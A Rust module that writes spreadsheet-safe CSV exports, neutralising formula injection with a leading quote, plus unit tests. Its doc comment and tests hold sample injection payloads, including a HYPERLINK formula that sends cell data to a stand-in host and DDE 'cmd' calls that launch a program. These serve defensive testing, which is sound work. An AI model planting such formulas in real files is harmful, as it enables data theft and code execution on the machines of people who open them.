//! CSV that is safe to open in a spreadsheet: the one rule against formula injection, and the
//! writer every CSV the product hands out goes through (`/export`, the `/autopair` preview).
//!
//! A cell that begins with `=`, `+`, `-` or `@` is read by Excel, LibreOffice Calc and Google
//! Sheets as a formula, and one beginning with a tab or a carriage return can be read as one
//! too (the spreadsheet skips it and looks at what follows). A name such as
//! `=HYPERLINK("http://evil.example/?x="&A1,"x")` typed into `/user_add` or a CSV import would
//! then run on the machine of the staff member who opens the export. OWASP's rule is to put a
//! `'` in front of such a cell: the spreadsheet then shows the text as it is.
//!
//! What this means for the data:
//! - A phone number in E.164 starts with `+`, so it comes out as `'+14155550101`. That is
//!   deliberate (a spreadsheet would otherwise turn it into the number 14155550101, or worse):
//!   spreadsheet-safe exports do the same. A program that reads the CSV back sees the `'` and
//!   should strip it — or read the JSON export, which holds every value exactly as stored.
//! - Negative numbers would be prefixed too; no CSV we write holds one (ids and scores are never
//!   negative).
//! - The rule looks at the first character of a cell as a spreadsheet splits the row on `,`.
//!   One that splits on `;` instead (some locales) cuts cells elsewhere; that case is outside
//!   this rule.

use std::borrow::Cow;

use crate::error::{Error, Result};

/// The first characters that make a spreadsheet read a cell as a formula (OWASP, "CSV
/// Injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as a spreadsheet may safely read it: `'` in front when it begins like a formula,
/// otherwise unchanged (and not copied).
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV file in memory (the `csv` crate: quotes, commas and line breaks inside cells are
/// quoted as RFC 4180 says) in which every cell has been through [`neutralise`]. Writing
/// through this type, rather than `csv::Writer` directly, is what keeps a CSV writer from
/// forgetting a cell.
pub struct Writer {
    inner: csv::Writer<Vec<u8>>,
}

impl Writer {
    pub fn new() -> Self {
        Self {
            inner: csv::Writer::from_writer(Vec::new()),
        }
    }

    /// Writes one row (the header row too: ours never begin like a formula, so it passes
    /// through unchanged).
    pub fn row<I, S>(&mut self, cells: I) -> Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned())
            .collect();
        self.inner.write_record(&cells).map_err(internal)
    }

    /// The file's bytes (UTF-8).
    pub fn into_bytes(self) -> Result<Vec<u8>> {
        self.inner
            .into_inner()
            .map_err(|e| Error::Internal(e.to_string()))
    }
}

impl Default for Writer {
    fn default() -> Self {
        Self::new()
    }
}

/// Writing to memory fails only on a bug of ours, never because of what a person typed.
fn internal(e: csv::Error) -> Error {
    Error::Internal(e.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    type Outcome<T> = std::result::Result<T, Box<dyn std::error::Error>>;

    fn written(rows: &[&[&str]]) -> Outcome<Vec<Vec<String>>> {
        let mut w = Writer::new();
        for r in rows {
            w.row(r.iter())?;
        }
        let bytes = w.into_bytes()?;
        let mut read = Vec::new();
        for record in csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice())
            .records()
        {
            read.push(record?.iter().map(String::from).collect());
        }
        Ok(read)
    }

    #[test]
    fn a_cell_that_begins_like_a_formula_gets_a_quote_in_front() {
        for hostile in [
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
            "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1)",
            "\t=1+1",
            "\r=1+1",
            "+14155550101",
        ] {
            assert_eq!(neutralise(hostile), format!("'{hostile}"), "{hostile:?}");
        }
    }

    #[test]
    fn a_harmless_cell_is_left_exactly_as_it_is() {
        for harmless in [
            "",
            "Ana Lima",
            "O'Brien",
            "'=already quoted",
            " =1+1",
            "a=b",
            "lang=pt",
            "ana+tag@example.org",
            "42",
            "2026-12-01T09:00:00+00:00",
        ] {
            assert!(
                matches!(neutralise(harmless), Cow::Borrowed(s) if s == harmless),
                "{harmless:?}"
            );
        }
    }

    #[test]
    fn every_cell_of_every_row_is_neutralised_and_the_file_reads_back_as_written() -> Outcome<()> {
        let rows = written(&[
            &["name", "note"],
            &["=1+1", "Costa, \"Rui\"\non two lines"],
            &["\r\n-3", "\tx"],
        ])?;
        assert_eq!(
            rows,
            vec![
                vec!["name", "note"],
                vec!["'=1+1", "Costa, \"Rui\"\non two lines"],
                vec!["'\r\n-3", "'\tx"],
            ]
        );
        Ok(())
    }
}
